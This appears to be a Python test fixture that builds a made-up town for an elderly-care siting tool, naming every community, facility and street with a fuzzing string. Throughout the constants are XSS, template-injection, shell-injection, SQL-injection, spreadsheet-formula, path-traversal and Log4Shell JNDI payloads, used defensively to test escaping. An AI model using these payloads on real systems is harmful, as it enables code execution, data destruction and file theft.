"""Two hundred names that try to be something else, and a made town that bears them all."""

import json
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pyogrio
from shapely.geometry import LineString, Point, box

EAST, NORTH, CELL, COLUMNS, ROWS = 526_000.0, 3_957_000.0, 200.0, 20, 10
CRS = "EPSG:4547"
_RUN = "window.hacked=1"
_TOUCH = "__import__('os').system('touch hacked')"

_MARKUP = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<img src=x onerror='{_RUN}'>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<a href='javascript:{_RUN}'>甲</a>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<style>*{{animation:x}}</style><b onanimationstart={_RUN}>",
    f"<object data='javascript:{_RUN}'>",
    f"<embed src='javascript:{_RUN}'>",
    "<meta http-equiv=refresh content=0;url=//x>",
    "<base href=//evil/>",
    "<!-- 甲",
    "--> 甲",
    "<![CDATA[甲]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    "</title>甲",
    "</style>甲",
    "</textarea>甲",
    "</b></p></td></table>甲",
    "<b>粗</b>",
    "甲<乙>丙",
    "&lt;b&gt;",
    "&#60;b&#62;",
    "&amp;amp;",
    "&#x0;",
    f"<SCRIPT\t>{_RUN}</SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"{_RUN}//<甲",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"' onmouseover='{_RUN}' x='",
    f'" onmouseover="{_RUN}" x="',
    f"` onmouseover={_RUN} `",
)
_SCRIPTS = (
    f"`${{{_RUN}}}`",
    f"${{{_RUN}}}",
    f"';{_RUN};'",
    f'";{_RUN};"',
    f"\\';{_RUN};//",
    f'\\";{_RUN};//',
    f"*/{_RUN}/*",
    f"\u2028{_RUN}\u2029甲",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "\\n\\r\\t\\0",
    "\\",
    "\\\\",
    "'",
    '"',
    "''",
    '""',
    "__proto__",
    "constructor",
    "null",
    "NaN甲",
    "true",
    "[object Object]",
    "L.marker([0,0])",
    "/*",
    "*/",
    "//甲",
)
_TEMPLATES = (
    "{{7*7}}",
    "{{ 7*7 }}",
    "{% for x in y %}",
    "{%x",
    "{# 幸福 #}",
    "{{",
    "}}",
    "{%",
    "%}",
    "{{''.__class__.__mro__}}",
    "{{cycler.__init__.__globals__.os.system('touch hacked')}}",
    f"{{% set x = {_TOUCH} %}}",
    f"{{{{{_TOUCH}}}}}",
    "{% raw %}甲{% endraw %}",
    "{% include '/etc/passwd' %}",
    "{0}",
    "{name}",
    "{elders}",
    "{0.__class__}",
    "{!r}",
    "{:>99999999}",
    "%s",
    "%(name)s",
    "%99999999d",
    "$name",
    "${name}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[table plan]",
    "[[if plan]]",
    f"{_TOUCH}",
    "${jndi:ldap://x/a}",
    "$(touch hacked)",
    "`touch hacked`",
    "; touch hacked #",
    "| touch hacked",
    "&& touch hacked",
)
_CELLS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd","/C calc","a")',
    '=HYPERLINK("http://x","甲")',
    '=IMPORTXML("http://x","//a")',
    '=WEBSERVICE("http://x")',
    "=2+5+cmd|'/C calc'!A0",
    "＝1+1",
    "+8613800000000",
    "-甲",
    "@甲",
    "'=1+1",
    "1e5",
    "2021-01-01",
    "甲,乙",
    "甲;乙",
    "甲\t乙",
    "甲|乙",
    '甲"乙',
    "甲\n乙",
    "甲\r\n乙",
    "甲\r=1+1",
    "甲\n=1+1",
    "_x0041_",
    "_x000D_",
)
_QUERIES = (
    "'; DROP TABLE facilities;--",
    "' OR '1'='1",
    '"; DROP TABLE "plan";--',
    "甲'乙",
    '甲""乙',
    "1; SELECT pg_sleep(9)",
    "\\'; --",
    "$$; DROP SCHEMA results CASCADE; $$",
    "\\.",
    "\\N",
    "%_甲",
)
_PATHS = (
    "../../../hacked",
    "..\\..\\hacked",
    "/etc/passwd",
    "C:\\hacked.txt",
    "\\\\evil\\share",
    "file:///etc/passwd",
    "CON",
    "NUL甲",
    "COM1",
    "LPT1.txt",
    "aux",
    "甲.",
    ".隐",
    "~",
    "甲:乙",
    "甲*乙?",
    "甲%00乙",
    "-rf",
)
_WRITING = (
    "مركز الرعاية",
    "\u202e甲乙丙\u202c",
    "\u2067甲\u2069",
    "\u200b甲\u200d乙\ufeff",
    "e\u0301\u0323甲",
    "Z\u0351\u0352\u0353algo",
    "𠮷㐱镕",
    "😀🏠👵🏽",
    "👨‍👩‍👧‍👦",
    "🇨🇳",
    "\U000e0041甲",
    "ﷺ",
    "ａｂｃ＜ｄ＞",
    "\ue000甲",
    "\ufffd甲",
    "नमस्ते",
    "ไทย",
)
_CONTROLS = (
    "甲\x01乙",
    "甲\x07\x08乙",
    "\x1b[31m甲\x1b[0m",
    "甲\x0b乙\x0c丙",
    "甲\x7f乙",
    "甲\x85乙",
    "甲\x1f乙",
    "甲\ufffe乙",
)
_TEX = ("$x^2$", "$\\frac{1}{0", "\\input{/etc/passwd}", "\\alpha_1^2", "$$", "$\\unknown{甲}$", "甲_乙^丙")
_MARKDOWN = ("# 甲", "[甲](javascript:alert(1))", "![甲](http://x/a.png)", "**甲**")
_LONG = ("长" * 300, "w" * 400, "<" * 120)

EVERY: tuple[str, ...] = (
    *_MARKUP, *_SCRIPTS, *_TEMPLATES, *_CELLS, *_QUERIES, *_PATHS, *_WRITING, *_CONTROLS, *_TEX, *_MARKDOWN, *_LONG
)  # fmt: skip

TITLE = "</title></script><img src=x onerror='window.hacked=1'>{{7*7}} =1+1"
PACK = "';-- {{7+7}} %s $x^2$"
"""A document of the bureau's own, by the name of its file: it heads columns of layers and tables."""
STREETS = (
    "<b onclick='window.hacked=1'>东</b>",
    "{{7*7}}街道",
    "../../hacked街道",
    "=1+1街道",
    "CON",
    "$x^2$街道",
    "'; --街道",
    "%s{0}街道",
)


def hostile_town(folder: Path, names: tuple[str, ...] = EVERY) -> Path:
    """Write a project of 20 x 10 communities; each name is borne by one community, facility, site, project and gate."""
    folder.mkdir(parents=True)
    cells = [(EAST + i % COLUMNS * CELL, NORTH + i // COLUMNS * CELL) for i in range(COLUMNS * ROWS)]
    count = pd.Series(range(len(cells)))
    codes = [f"419921{i // 25 + 1:03d}{i % 25 + 1:03d}" for i in count]
    bears = [names[i % len(names)] for i in count]
    turned = [names[(i * 7 + 3) % len(names)] for i in count]

    def spots(dx: float, dy: float) -> list[Point]:
        return [Point(x + dx, y + dy) for x, y in cells]

    def layer(name: str, table: dict[str, object], shapes: list[object]) -> None:
        frame = gpd.GeoDataFrame(pd.DataFrame(table), geometry=shapes, crs=CRS)
        pyogrio.write_dataframe(frame, folder / f"{name}.gpkg", layer=name, driver="GPKG")

    areas = [box(x, y, x + CELL, y + CELL) for x, y in cells]
    layer("communities", {"community_id": codes, "name": bears, "street_id": [c[:9] for c in codes],
          "street": [STREETS[i // 25] for i in count], "county_id": "419921", "county": turned[0], "zone": turned,
          "level": "社区", "residents": 300 + count, "elders": 60 + count % 40, "households": 100}, areas)  # fmt: skip
    kinds = ("日间照料", "街道综合养老服务中心", "养老服务站", "助餐点", "养老院")
    layer("facilities", {"facility_id": [f"F{i:03d}" for i in count], "name": bears, "operator": turned,
          "kind": [kinds[i % 5] for i in count], "status": ["在用" if i % 4 == 0 else "规划" for i in count],
          "opened": "2020-05-01", "floor_area_m2": 400.0 + count, "beds": 12, "address": turned, "current_use": turned,
          "community_id": codes}, spots(60, 70))  # fmt: skip
    layer("candidates", {"candidate_id": [f"C{i:03d}" for i in count], "name": bears, "max_floor_area_m2": 500.0,
          "cost_wan": 20.0 + count % 7, "address": turned}, spots(120, 90))  # fmt: skip
    layer("housing", {"project_id": [f"P{i:03d}" for i in count], "name": bears, "households": 400, "residents": 1200,
          "new_estate": "是", "care_planned_m2": 100.0, "care_built_m2": 60.0, "housing_planned": "2019-01-01",
          "housing_finished": "2020-06-01", "housing_accepted": "2020-09-01", "receiver": turned, "developer": turned,
          "floor": turned, "evidence": turned, "land_terms": turned}, spots(150, 150))  # fmt: skip
    layer("gates", {"gate_id": [f"G{i:03d}" for i in count], "name": bears}, spots(0, 0))
    layer("residents", {"demand_id": [f"H{i:03d}" for i in count], "residents": 300 + count, "elders": 60 + count % 40,
          "community_id": codes}, spots(100, 110))  # fmt: skip
    _streets(folder / "streets.gpkg")
    (folder / f"{PACK}.toml").write_text(_pack(names), encoding="utf-8")
    (folder / "project.toml").write_text(_project(names), encoding="utf-8")
    return folder


def _streets(path: Path) -> None:
    east, north = EAST + COLUMNS * CELL, NORTH + ROWS * CELL
    lines = [LineString([(EAST + i * CELL, NORTH), (EAST + i * CELL, north)]) for i in range(COLUMNS + 1)]
    lines += [LineString([(EAST, NORTH + i * CELL), (east, NORTH + i * CELL)]) for i in range(ROWS + 1)]
    frame = gpd.GeoDataFrame({"name": [EVERY[i] for i in range(len(lines))]}, geometry=lines, crs=CRS)
    pyogrio.write_dataframe(frame, path, layer="streets", driver="GPKG")


def _pack(names: tuple[str, ...]) -> str:
    """Return a document whose title, number, clauses and demands are names too."""
    words = [json.dumps({"a": name}, ensure_ascii=False)[6:-1] for name in names[:36]]
    both = [f"{{ zh = {one}, en = {one} }}" for one in words]
    rules = "".join(
        f"""
[[rule]]
id = "X-{i:02d}"
clause = {words[i]}
title = {both[i]}
demand = {both[i + 12]}
levels = [{json.dumps("community" if i == 0 else "city")}]
measure = {{ indicator = "facility_count", kinds = ["day_care"], statuses = ["in_use"] }}
test = {{ at_least = 1 }}
"""
        for i in range(12)
    )
    return f"[document]\nnumber = {words[30]}\ntitle = {both[31]}\nissued = 2020-01-01\nplace = {both[32]}\n{rules}"


def _project(names: tuple[str, ...]) -> str:
    inputs = "".join(
        f'{name} = "{name}.gpkg"\n'
        for name in ("streets", "communities", "residents", "gates", "facilities", "candidates", "housing")
    )
    said = json.dumps
    return f"""name = {said(TITLE)}
crs = "{CRS}"
[inputs]
{inputs}
[walking]
minutes = [5, 15]
compare_speeds = [1.0]
[policy]
packs = ["baotou_2020", {said(PACK + ".toml")}]
as_of = 2021-12-31
[siting]
budget_wan = 1200
time_limit_s = 5
[scenario.{said(names[0], ensure_ascii=False)}]
budget_wan = 600
[sheet]
place_name = {said(STREETS[2])}
bureau = {said(names[1], ensure_ascii=False)}
plan_title = {said(names[70 % len(names)], ensure_ascii=False)}
drawn_by = {said(names[100 % len(names)], ensure_ascii=False)}
"""
